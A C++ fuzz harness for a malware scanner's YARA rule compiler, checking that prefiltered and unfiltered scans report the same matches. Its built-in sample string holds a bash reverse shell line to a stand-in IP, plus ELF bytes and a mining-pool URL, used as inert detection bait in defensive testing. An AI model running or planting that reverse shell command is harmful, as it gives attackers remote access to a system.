// Hostile YARA rule text through the compiler moat uses for the user's rule files (bundled rules off,
// so each input compiles alone and fast). The input is rule text, then optionally a NUL byte and a
// sample to scan (a fixed one when there is none). A rule set that compiles is run over the sample
// with and without the prefilter, which must report the same: it may only skip what cannot match.
// Only moat::Error may come out.
#include <cstddef>
#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include "base/error.h"
#include "malware/yara_scanner.h"

namespace {

constexpr std::string_view kSample =
    "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n\x7f"
    "ELF\x01\x02 stratum+tcp://a:1\n";

std::vector<std::string> rule_ids(const moat::malware::YaraScanner& scanner, std::string_view sample) {
  std::vector<std::string> out;
  for (const auto& d : scanner.scan("dir/sample.sh", sample)) {
    if (d.engine != "yara" || d.rule_id.empty() || d.severity.empty()) __builtin_trap();
    out.push_back(d.rule_id);
  }
  return out;
}

}  // namespace

extern "C" int LLVMFuzzerTestOneInput(const std::uint8_t* data, std::size_t size) {
  const std::string_view input(reinterpret_cast<const char*>(data), size);
  const size_t nul = input.find('\0');
  const std::string_view sample = nul == std::string_view::npos ? kSample : input.substr(nul + 1);
  moat::malware::YaraOptions options;
  options.include_bundled = false;
  options.timeout = std::chrono::seconds(2);
  options.rule_texts.push_back({"fuzz.yar", std::string(input.substr(0, nul))});
  try {
    const moat::malware::YaraScanner with_prefilter(options);
    options.prefilter = false;
    const moat::malware::YaraScanner without(options);
    std::vector<std::string> expected;
    try {
      expected = rule_ids(without, sample);
    } catch (const moat::Error&) {
      return 0;  // libyara gave up (time, too many matches): the prefilter may have skipped it
    }
    if (rule_ids(with_prefilter, sample) != expected) __builtin_trap();
  } catch (const moat::Error&) {
  }
  return 0;
}
